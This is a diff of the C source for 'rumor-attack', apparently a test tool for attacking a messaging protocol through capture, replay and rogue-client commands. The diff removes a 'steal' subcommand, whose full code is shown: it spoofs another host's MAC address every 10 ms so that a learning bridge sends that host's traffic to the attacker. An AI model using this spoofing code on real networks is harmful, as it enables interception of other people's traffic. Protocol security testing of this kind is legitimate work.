@@ -15,8 +15,6 @@
  *            of an amplification
  *   capture  the first frame on the bridge that matches, kept to a file
  *   replay   that frame, sent again from our own MAC
- *   steal    frames from another host's MAC, so that the bridge sends
- *            that host's traffic to us (what capture then sees)
  *   learn    as a rogue client with its own UDP socket: subscribe to a
  *            channel, and print the stream and sequence of the first
  *            message delivered (what a NACK needs to be answered in full)
@@ -123,7 +121,7 @@ usage(FILE *f)
 "       rumor-attack capture --iface IF [--from IP] [--types N,..]\n"
 "                            [--with-origin] --seconds S --file F\n"
 "       rumor-attack replay  --iface IF --file F [--count N] [--rate PPS]\n"
-"       rumor-attack steal   --iface IF --src-mac MAC --seconds S\n"
+
 "       rumor-attack learn   --dst IP:PORT --src IP:PORT --channel NAME\n"
 "                            --seconds S\n"
 "       rumor-attack owner   --members N CHANNEL...\n"
@@ -680,32 +678,6 @@ cmd_learn(const struct atk_opts *o)
 	return 1;
 }
 
-/*
- * Frames (a local experimental EtherType, to ourselves) whose source is
- * o->src_mac, every 10 ms: a learning bridge then places that MAC on our
- * port, until its owner sends again.
- */
-static int
-cmd_steal(const struct atk_opts *o)
-{
-	uint8_t f[60], mac[6];
-	uint64_t end = now_ns() + (uint64_t)(o->seconds * 1e9), n = 0;
-	int ifindex, fd = raw_open(o->iface, &ifindex, mac);
-
-	memset(f, 0, sizeof(f));
-	memcpy(f, mac, 6);
-	memcpy(f + 6, o->src_mac, 6);
-	f[12] = 0x88;
-	f[13] = 0xb5;
-	while (now_ns() < end) {
-		raw_send(fd, ifindex, f, sizeof(f));
-		n++;
-		usleep(10000);
-	}
-	printf("sent frames=%" PRIu64 " bytes=%" PRIu64 "\n", n, n * 60);
-	return 0;
-}
-
 static int
 cmd_owner(const struct atk_opts *o, int argc, char **argv)
 {
@@ -867,8 +839,7 @@ main(int argc, char **argv)
 		return cmd_count(&o, true);
 	if (strcmp(cmd, "replay") == 0 && o.file != NULL)
 		return cmd_replay(&o);
-	if (strcmp(cmd, "steal") == 0 && o.have_src_mac)
-		return cmd_steal(&o);
+
 	usage(stderr);
 	return 2;
 }
